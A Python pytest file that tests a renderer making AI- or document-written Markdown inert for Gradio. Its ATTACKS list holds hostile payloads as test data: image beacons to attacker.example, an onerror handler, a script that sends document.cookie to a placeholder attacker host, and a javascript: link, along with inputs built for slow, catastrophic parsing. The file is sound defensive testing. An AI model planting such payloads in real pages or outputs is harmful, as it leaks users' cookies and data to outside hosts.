"""playground.rendering: text a model or a document wrote, made inert for Gradio's Markdown.

Each output is also run through a CommonMark parser with raw HTML on (markdown-it, as Gradio's
marked does) and the HTML it makes is read back: no element that loads or runs anything."""

import itertools
import time
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from playground.rendering import inert_code_block, inert_inline, inert_markdown, inert_quote

ATTACKS = [
    "![](http://127.0.0.1:9/?q=secret)",
    '![alt text](https://attacker.example/x.png "title")',
    "![ref image][pic]\n\n[pic]: http://attacker.example/p.png",
    "![pic]\n\n[pic]: http://attacker.example/p.png",
    "<img src=http://attacker.example/a.png>",
    "<IMG SRC='http://attacker.example/b.png' onerror=alert(1)>",
    "<script>fetch('http://attacker.example/?c='+document.cookie)</script>",
    '<div style="background:url(http://attacker.example/bg.png)">x</div>',
    "<svg><image href=http://attacker.example/s.png /></svg>",
    "<!-- a comment --><iframe src=http://attacker.example></iframe>",
    "\\<img src=http://attacker.example/escaped.png>",
    "```mermaid\ngraph TD; A[\"<img src='http://attacker.example/m.png'>\"]\n```",
    '> ```mermaid\n> graph TD; A["<img src=x>"]\n> ```',
    "```\nunclosed <img src=http://attacker.example/u.png>",
    "$$ \\href{javascript:alert(1)}{x} $$",
    "`code <img src=http://attacker.example/c.png>` and ``two ` ticks``",
    "- item\n  ```\n  ![](http://attacker.example/li.png)\n  ```\n<img src=http://attacker.example/after.png>",
    "~~~\n<img src=http://attacker.example/tilde.png>\n~~~",
    "| a | b |\n|---|---|\n| `x | <img src=http://attacker.example/t.png>` | y |",
    "http://x.example/`<img src=http://attacker.example/url.png>`",
]
LOADING_TAGS = set("img script iframe svg image video audio source object embed link style".split())
OUR_TAGS = {"p", "pre", "code", "a", "em", "strong", "ul", "ol", "li", "blockquote", "h4", "h5", "h6", "hr", "br"}
OUR_TAGS |= {"table", "thead", "tbody", "tr", "th", "td", "del"}


class Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def rendered_elements(markdown: str) -> list[tuple[str, dict]]:
    parser = Elements()
    parser.feed(MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough").render(markdown))
    return parser.tags


def assert_inert(markdown: str, app_tags: frozenset[str] = frozenset()) -> None:
    """``app_tags``: tags the app itself adds around such text (citation markers, small print)."""
    for tag, attrs in rendered_elements(markdown):
        assert tag not in LOADING_TAGS and tag in OUR_TAGS | app_tags, (tag, markdown)
        assert set(attrs) <= {"href", "title", "class"}, (tag, attrs, markdown)
    assert "![" not in markdown and "$$" not in markdown and "`" not in markdown
    assert "```mermaid" not in markdown


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_an_answer_writes_loads_or_runs(attack):
    assert_inert(inert_markdown(attack))
    assert_inert(inert_markdown(f"Intro **bold**\n\n{attack}\n\n1. after"))


def test_attacks_stay_inert_whatever_follows_them():
    # A fence or a $$ left open by one piece must not turn the next piece's code into live HTML.
    for first, second in itertools.product(ATTACKS, repeat=2):
        assert_inert(inert_markdown(first + "\n" + second))
        assert_inert(inert_markdown(first) + "\n\n" + inert_markdown(second))


def test_remote_images_become_plain_links():
    shown = inert_markdown("See ![](http://127.0.0.1:9/?q=secret) and ![a cat](https://x.example/cat.png 'cat').")
    assert shown == "See [image](http://127.0.0.1:9/?q=secret) and [image: a cat](https://x.example/cat.png)."
    assert [(t, a.get("href")) for t, a in rendered_elements(shown)] == [
        ("p", None),
        ("a", "http://127.0.0.1:9/?q=secret"),
        ("a", "https://x.example/cat.png"),
    ]
    assert inert_markdown("![ref][pic]") == "&#33;[ref][pic]"


def test_raw_html_is_shown_as_text():
    shown = inert_markdown("Hi <img src=x onerror=alert(1)> <script>alert(2)</script>")
    assert shown == "Hi &lt;img src=x onerror=alert(1)> &lt;script>alert(2)&lt;/script>"
    assert [t for t, _ in rendered_elements(shown)] == ["p"]


def test_markdown_structure_a_model_uses_stays():
    answer = "Steps:\n\n1. **Mix** the *flour*\n2. Bake\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n> quoted"
    tags = [t for t, _ in rendered_elements(inert_markdown(answer))]
    for tag in ("ol", "ul", "li", "strong", "em", "table", "td", "blockquote"):
        assert tag in tags, tag


def test_headings_are_kept_small():
    shown = inert_markdown("# Expenses\n## Travel\n### Food\n#### Small\nTitle\n===\nOther\n---")
    tags = [t for t, _ in rendered_elements(shown)]
    assert "h1" not in tags and "h2" not in tags and "h3" not in tags
    assert tags.count("h4") == 4 and "hr" in tags


def test_code_keeps_its_text_and_whitespace():
    shown = inert_markdown("Use `a < b && $x` then:\n\n```python\nif a < b:\n    print('$$')\n```\n")
    assert "<code>a &#60; b &#38;&#38; &#36;x</code>" in shown
    assert "<pre><code>if a &#60; b:\n    print('&#36;&#36;')</code></pre>" in shown
    listed = inert_markdown("1. Run:\n   ```bash\n   echo '<hi>'\n   ```\n2. Done")
    assert "<pre><code>echo '&#60;hi>'</code></pre>" in listed and "2. Done" in listed


def test_inline_and_quoted_text_are_literal():
    assert inert_inline('**=HYPERLINK("x")** <b>\n# no') == '&#42;&#42;=HYPERLINK("x")&#42;&#42; &#60;b&#62; # no'
    assert inert_inline("# Expenses") == "&#35; Expenses" and inert_inline("1. First") == "1&#46; First"
    assert inert_inline(None) == "" and inert_inline("Gemma 3 270M (base)") == "Gemma 3 270M (base)"
    quote = inert_quote("# Expenses\n  - taxi 12\n\n1. hotel\n![](http://x/y)")
    assert [t for t, _ in rendered_elements(quote)] == ["blockquote", "p", "br", "p", "br"]  # no h1, no list
    assert_inert(quote)


def test_a_code_block_shows_saved_text_as_written():
    block = inert_code_block("The zebra blender broke.\n```\n<img src=x> $$")
    assert block == "<pre><code>The zebra blender broke.\n&#96;&#96;&#96;\n&#60;img src=x> &#36;&#36;</code></pre>"
    assert [t for t, _ in rendered_elements(block)] == ["pre", "code"]


@pytest.mark.parametrize("text", ["![" * 20_000, "![a](<" * 20_000, "![a](x (" * 15_000, "`a``b" * 10_000])
def test_a_hostile_answer_is_rendered_in_linear_time(text):
    # A pattern that rescanned the line from every "![" took seconds on each of the first three.
    started = time.process_time()
    shown = inert_markdown(text)
    assert time.process_time() - started < 1.0
    assert "![" not in shown and "`" not in shown
